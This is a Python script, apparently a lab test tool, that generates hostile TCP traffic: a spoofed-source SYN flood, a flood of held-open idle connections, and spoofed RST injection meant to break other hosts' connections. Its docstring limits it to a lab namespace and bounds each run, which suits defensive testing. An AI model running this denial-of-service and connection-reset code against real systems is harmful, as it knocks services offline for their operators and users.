"""flood.py - hostile traffic for the lab's attack tests, run inside a lab
namespace (never the host's).  Every mode is bounded in count and time and
prints one line of figures.

  synflood DST DPORT RATE SECONDS      SYNs from random sources in 198.19.128.0/17
  idle DST DPORT COUNT SECONDS          COUNT connections held open, saying nothing
  rst SRC SPORT DST DPORT COUNT SECONDS RSTs spoofed as SRC:SPORT, random sequence numbers
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_packet(src, dst, sport, dport, seq, ack, flags, win=64240):
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, win, 0, 0)
    c = csum(s + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def paced(total, seconds, send):
    """Call send(i) total times, spread over `seconds`; stop at 2x the time."""
    start = time.time()
    sent = 0
    for i in range(total):
        due = start + seconds * i / total
        now = time.time()
        if now > start + 2 * seconds:
            break
        if due > now:
            time.sleep(due - now)
        try:
            send(i)
            sent += 1
        except OSError:
            pass
    return sent, time.time() - start


def synflood(dst, dport, rate, seconds):
    s = raw()
    total = int(rate * seconds)
    base = struct.unpack("!I", socket.inet_aton("198.19.128.0"))[0]

    def one(i):
        src = socket.inet_ntoa(struct.pack("!I", base + random.getrandbits(15)))
        pkt = tcp_packet(src, dst, random.randint(1024, 65535), dport, random.getrandbits(32), 0, 0x02)
        s.sendto(pkt, (dst, 0))

    sent, took = paced(total, seconds, one)
    print("synflood sent %d in %.2f s (%.0f/s)" % (sent, took, sent / max(took, 1e-3)))


def idle(dst, dport, count, seconds):
    """Open up to `count` connections at once (non-blocking), keep those
    that complete within 3 s, hold them silent until `seconds` are over."""
    import select
    end = time.time() + seconds
    pending = []
    for _ in range(count):
        c = socket.socket()
        c.setblocking(False)
        c.connect_ex((dst, dport))
        pending.append(c)
    done, limit = [], time.time() + 3
    while pending and time.time() < limit:
        _, w, _ = select.select([], pending, [], 0.2)
        for c in w:
            pending.remove(c)
            if c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                done.append(c)
            else:
                c.close()
    for c in pending:
        c.close()
    print("idle connected %d of %d" % (len(done), count), flush=True)
    while time.time() < end:
        time.sleep(0.2)
    for c in done:
        c.close()


def rst(src, sport, dst, dport, count, seconds):
    s = raw()

    def one(i):
        s.sendto(tcp_packet(src, dst, sport, dport, random.getrandbits(32), 0, 0x04, 0), (dst, 0))

    sent, took = paced(count, seconds, one)
    print("rst sent %d in %.2f s" % (sent, took))


def main(a):
    if a[0] == "synflood":
        synflood(a[1], int(a[2]), float(a[3]), float(a[4]))
    elif a[0] == "idle":
        idle(a[1], int(a[2]), int(a[3]), float(a[4]))
    elif a[0] == "rst":
        rst(a[1], int(a[2]), a[3], int(a[4]), int(a[5]), float(a[6]))
    else:
        sys.exit("unknown mode " + a[0])


main(sys.argv[1:])
